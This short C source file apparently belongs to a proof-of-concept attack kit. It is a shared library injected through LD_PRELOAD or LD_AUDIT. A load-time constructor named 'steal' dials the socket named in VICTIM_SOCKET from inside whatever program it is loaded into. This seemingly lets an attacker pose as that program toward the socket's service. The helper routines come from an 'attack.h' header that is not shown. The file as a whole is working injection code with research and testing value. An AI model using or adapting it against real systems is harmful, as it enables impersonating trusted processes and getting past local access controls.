/* A library that makes the call from within whatever program it is loaded into
 * (LD_PRELOAD, LD_AUDIT), to the socket that VICTIM_SOCKET names. */
#include "attack.h"
#include <link.h>

static void steal(void) {
  const char *path = getenv("VICTIM_SOCKET");
  if (path) _exit(ask(dial(path, SOCK_CLOEXEC)));
}

__attribute__((constructor)) static void loaded(void) { steal(); }

unsigned la_version(unsigned version) { return version; }
